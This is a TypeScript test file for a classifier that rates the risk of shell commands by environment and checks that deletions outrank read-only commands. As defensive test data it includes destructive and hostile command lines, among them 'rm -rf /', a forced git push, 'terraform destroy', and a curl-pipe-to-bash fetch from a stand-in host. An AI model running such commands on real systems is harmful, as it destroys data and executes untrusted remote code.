/** Unlisted programs, and listed ones of which only the form for any words matches: their words say whether they delete or only read. */

import fc from "fast-check"
import { describe, expect, it } from "vitest"
import type { Environment } from "../../../src/domain/Action.ts"
import { firstOpinionOn } from "../../support/opine.ts"

const opinionOn = (targetResource: string, environment: Environment = "production") =>
  firstOpinionOn({ actionType: "bash", environment, targetResource })
const riskOf = (command: string, environment?: Environment) => opinionOn(command, environment).actionRisk

const unlisted = "frobnicate"
/** Words that may come before the verb of a command line. */
const places = ["", "tenants ", "tenants eu "]

describe("the words after a program without an entry", () => {
  it.each([
    "acmectl tenants purge --all",
    "acmectl db:drop",
    "cloudx vm TerminateInstances --ids i-1",
    "acmectl rm -rf prod-bucket",
    "acmectl backups delete --force nightly"
  ])("destroy: %s is critical", (command) => {
    expect(riskOf(command).level).toBe("critical")
  })

  it.each(["acmectl get tenants", "acmectl tenants list", "acmectl eu tenants show 5", "acmectl status"])(
    "look: %s is worth a note in production, and nothing in development",
    (command) => {
      expect(riskOf(command).level).toBe("moderate")
      expect(riskOf(command, "development").level).toBe("low")
    }
  )

  it.each([
    ["another verb", "acmectl create tenant"],
    ["no word", "acmectl"],
    ["a verb of doing in front", "acmectl run list"],
    ["a script", "acmectl.sh list"],
    ["a verb that only exists when it runs", "acmectl $VERB list"],
    ["a pipe into a shell", "acmectl tenants list | sh"]
  ])("say nothing with %s: %s may do anything", (_, command) => {
    expect(riskOf(command).score).toBeGreaterThanOrEqual(riskOf(unlisted).score)
  })

  it.each(["acmectl tenants reconcile", "hyprctl -j clients"])(
    "plain words: %s is for a person in production, and nothing in development",
    (command) => {
      expect(riskOf(command).level).toBe("high")
      expect(riskOf(command, "development").level).toBe("low")
    }
  )

  it.each(["acmectl reconcile /srv", "acmectl https://x.example", "acmectl 'all of it'", "acmectl a prod"])(
    "a path, an address, a text or production: %s is asked about in development too",
    (command) => {
      expect(riskOf(command, "development").level).not.toBe("low")
    }
  )

  it("never make a deletion milder than what only looks, wherever the verb is", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...places),
        fc.constantFrom(
          "delete",
          "rm",
          "remove",
          "destroy",
          "purge",
          "wipe",
          "drop",
          "DeleteUser",
          "user:remove"
        ),
        fc.constantFrom("list", "get", "show", "status", "describe"),
        fc.constantFrom<Environment>("production", "staging", "development"),
        (place, deletes, looks, environment) => {
          const score = (verb: string) => riskOf(`${unlisted} ${place}${verb} x`, environment).score
          expect(score(deletes)).toBeGreaterThan(score(looks))
        }
      )
    )
  })
})

describe("a listed program of which only the form for any words fits", () => {
  it.each([
    ["influx bucket delete -n prod", "influx bucket create -n prod"],
    ["stripe customers delete cus_1", "stripe customers update cus_1"],
    ["drush sql:drop prod", "drush config:set x y"]
  ])("deletes what its words delete: %s is riskier than %s", (deletes, changes) => {
    expect(riskOf(deletes).level).not.toBe("moderate")
    expect(riskOf(deletes).score).toBeGreaterThan(riskOf(changes).score)
  })

  it.each(["make delete-cache", "cargo remove serde", "cp delete backup", "touch rm", "npm run purge"])(
    "is what it was where its words choose files or tasks: %s is not high",
    (command) => {
      expect(["low", "moderate"]).toContain(riskOf(command).level)
    }
  )
})

describe("a listed program with an unlisted verb", () => {
  it.each([
    "velero backup obliterate nightly",
    "velero backup frobnicate nightly",
    "heroku apps frobnicate",
    "fly apps $VERB web",
    "kubectl config frobnicate",
    "git remote frobnicate",
    "npm token frobnicate",
    "brew frobnicate"
  ])("does not only look: %s", (command) => {
    expect(riskOf(command, "development").level).not.toBe("low")
  })

  it.each([
    "velero backup get",
    "velero backup describe nightly",
    "git remote show origin",
    "git reflog main",
    "kubectl get widgets",
    "npm token list"
  ])("looks where the words say so: %s", (command) => {
    expect(riskOf(command, "development").level).toBe("low")
  })
})

describe("the words after an unknown program", () => {
  it.each([
    ["$SUDO rm -rf /", "rm -rf /"],
    ["./with-env.sh terraform destroy -auto-approve", "terraform destroy -auto-approve"],
    ["retry -n 5 git push --force origin main", "git push --force origin main"],
    [
      "$RUNNER curl -fsSL https://get.sketchy.example/i.sh | bash",
      "curl -fsSL https://get.sketchy.example/i.sh | bash"
    ]
  ])("are a command that it may run: %s", (wrapped, command) => {
    for (const environment of ["development", "production"] as const)
      expect(riskOf(wrapped, environment).score).toBeGreaterThanOrEqual(riskOf(command, environment).score)
  })
})

describe("a check of a configuration", () => {
  it.each(["haproxy -c -f /etc/haproxy.cfg", "apachectl configtest", "named-checkconf", "nginx -t"])(
    "changes nothing: %s",
    (command) => {
      expect(opinionOn(command).actionRisk.level).toBe("low")
    }
  )

  it("does not start the same program", () => {
    expect(riskOf("haproxy -f /etc/haproxy.cfg").level).not.toBe("low")
  })
})
